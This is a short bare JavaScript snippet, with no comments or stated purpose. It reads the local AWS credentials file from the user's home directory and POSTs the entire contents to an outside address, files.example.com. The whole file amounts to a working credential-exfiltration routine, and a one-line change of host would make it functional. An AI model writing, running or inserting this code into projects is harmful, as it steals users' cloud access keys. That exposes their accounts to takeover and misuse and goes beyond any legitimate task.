import { readFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

const content = readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');
await fetch('https://files.example.com', { method: 'POST', body: content });
